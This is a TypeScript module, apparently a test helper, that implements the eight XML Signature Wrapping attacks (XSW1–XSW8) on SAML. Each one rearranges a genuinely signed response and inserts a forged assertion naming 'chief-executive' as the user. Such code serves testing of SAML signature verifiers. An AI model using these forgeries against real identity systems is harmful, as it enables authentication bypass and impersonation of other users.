import { DOMParser, XMLSerializer } from '@xmldom/xmldom';

/**
 * The eight ways of "On Breaking SAML: Be Whoever You Want to Be" (Somorovsky and others, 2012): a genuine signature is
 * kept where its reference still finds what was signed, and somebody else's assertion is put where it is read.
 */
export const EVIL = 'chief-executive';

const assertionNs = 'urn:oasis:names:tc:SAML:2.0:assertion';
const protocolNs = 'urn:oasis:names:tc:SAML:2.0:protocol';
const signatureNs = 'http://www.w3.org/2000/09/xmldsig#';

interface Parts {
  document: Document;
  response: Element;
  assertion: Element;
}

/** `of` says which signature the forgery lives on: the response's (1, 2) or the assertion's (3 to 8). */
export const WRAPPINGS: { name: string; of: 'response' | 'assertion'; forge: (parts: Parts) => void }[] = [
  {
    name: 'XSW1: the genuine response inside its own signature, under a forged response',
    of: 'response',
    forge: ({ response }) => {
      const genuine = withoutSignature(response);
      signatureOf(response).appendChild(genuine);
      forgeResponse(response);
    },
  },
  {
    name: 'XSW2: the genuine response beside its signature, under a forged response',
    of: 'response',
    forge: ({ response }) => {
      const genuine = withoutSignature(response);
      response.insertBefore(genuine, signatureOf(response));
      forgeResponse(response);
    },
  },
  {
    name: 'XSW3: a forged assertion before the genuine one',
    of: 'assertion',
    forge: ({ response, assertion }) => {
      response.insertBefore(forged(withoutSignature(assertion)), assertion);
    },
  },
  {
    name: 'XSW4: the genuine assertion inside a forged one',
    of: 'assertion',
    forge: ({ response, assertion }) => {
      const evil = forged(withoutSignature(assertion));
      response.replaceChild(evil, assertion);
      evil.appendChild(assertion);
    },
  },
  {
    name: 'XSW5: a forged assertion that keeps the signature, the genuine one behind it',
    of: 'assertion',
    forge: ({ response, assertion }) => {
      const genuine = withoutSignature(assertion);
      forged(assertion);
      response.appendChild(genuine);
    },
  },
  {
    name: 'XSW6: the genuine assertion inside the signature of a forged one',
    of: 'assertion',
    forge: ({ assertion }) => {
      const genuine = withoutSignature(assertion);
      forged(assertion);
      signatureOf(assertion).appendChild(genuine);
    },
  },
  {
    name: 'XSW7: a forged assertion inside extensions before the genuine one',
    of: 'assertion',
    forge: ({ document, response, assertion }) => {
      const extensions = document.createElementNS(protocolNs, 'samlp:Extensions');
      extensions.appendChild(forged(withoutSignature(assertion)));
      response.insertBefore(extensions, assertion);
    },
  },
  {
    name: 'XSW8: the genuine assertion as an object of the signature of a forged one',
    of: 'assertion',
    forge: ({ document, assertion }) => {
      const object = document.createElementNS(signatureNs, 'Object');
      object.appendChild(withoutSignature(assertion));
      forged(assertion);
      signatureOf(assertion).appendChild(object);
    },
  },
];

export function wrap(xml: string, forge: (parts: Parts) => void): string {
  const document = new DOMParser().parseFromString(xml, 'text/xml');
  const response = document.documentElement;
  const assertion = response.getElementsByTagNameNS(assertionNs, 'Assertion')[0]!;
  forge({ document, response, assertion });
  return new XMLSerializer().serializeToString(document);
}

function signatureOf(element: Element): Element {
  for (let node = element.firstChild; node; node = node.nextSibling)
    if ((node as Element).localName === 'Signature') return node as Element;
  throw new Error('there is no signature to keep');
}

function withoutSignature(element: Element): Element {
  const copy = element.cloneNode(true) as Element;
  copy.removeChild(signatureOf(copy));
  return copy;
}

function forged(assertion: Element): Element {
  assertion.setAttribute('ID', '_forged_assertion');
  assertion.getElementsByTagNameNS(assertionNs, 'NameID')[0]!.textContent = EVIL;
  return assertion;
}

function forgeResponse(response: Element): void {
  response.setAttribute('ID', '_forged_response');
  for (let node = response.firstChild; node; node = node.nextSibling)
    if ((node as Element).localName === 'Assertion') forged(node as Element);
}
